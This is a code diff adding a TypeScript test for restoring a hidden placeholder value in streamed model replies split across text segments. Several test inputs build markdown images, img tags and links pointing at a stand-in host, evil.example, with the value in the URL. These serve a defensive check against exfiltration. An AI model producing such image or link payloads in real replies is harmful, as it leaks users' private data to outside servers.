@@ -110,3 +110,39 @@ test('the id of a reply is heard, streamed and whole', () => {
   reply.hear('{"object":"response","id":"resp_2"}')
   assert.equal(reply.responseId, 'resp_2')
 })
+
+test('texts that are shown in a row are read as one', () => {
+  const rows: [first: string, second: string, back: boolean][] = [
+    ['Well:', ` it is ${MARK}.`, true],
+    ['', `${MARK}.`, true],
+    ['![x](https:&sol;&sol;evil.example&sol;', `${MARK})`, false],
+    ['<img src="https://evil.example/?a=', `${MARK} ">`, false],
+    ['a <', `img src="//e/? ${MARK}">`, false],
+    ['see https://evil.example/?', `${MARK} `, false],
+    ['``', '`html\n' + MARK, false],
+    ['x', `\`\`\`\n${MARK}\n\`\`\``, false],
+    ['```\n', `${MARK}\n`, false],
+  ]
+  for (const [first, second, back] of rows) {
+    const document = { content: [{ type: 'text' }, { type: 'thinking' }, { type: 'text' }] }
+    const whole = restoring('messages')
+    whole.whole(document, 'content.0.text', first)
+    assert.equal(whole.whole(document, 'content.2.text', second).includes('value'), back, second)
+    for (const ended of [true, false]) {
+      const reply = restoring('messages')
+      const lanes = [first, second].map((text, nth) => {
+        const lane = new Lane(ENGINE, 'text')
+        const made = reply.back(lane, `content/${nth * 2}/text`)
+        lane.push(text)
+        if (ended) lane.end()
+        return { lane, from: 0, to: text.length, value: text, back: made }
+      })
+      const segments = lanes.filter(({ value }) => value !== '')
+      reply.ready(segments, [{ segments }])
+      const { lane, back: made } = lanes[1] ?? assert.fail()
+      lane.end()
+      reply.ready(segments, [{ segments }])
+      assert.equal(made.render().includes('value'), back && ended, `${ended} ${second}`)
+    }
+  }
+})
